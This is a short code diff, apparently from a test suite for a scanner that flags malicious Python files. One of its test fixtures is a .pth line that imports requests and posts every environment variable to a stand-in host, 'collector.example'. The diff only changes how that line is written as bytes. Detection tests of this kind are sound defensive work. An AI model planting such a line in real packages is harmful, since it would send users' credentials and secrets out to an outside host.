@@ -35,7 +35,7 @@ def rules(module: Module) -> set[str]:
         ("sitecustomize.py", STEAL.encode()),
         (
             "lib/x.pth",
-            ("import os, requests; requests.post('https://collector.example', json=dict(os.environ))").encode(),
+            (b"import os, requests; requests.post('https://collector.example', json=dict(os.environ))"),
         ),
     ],
 )
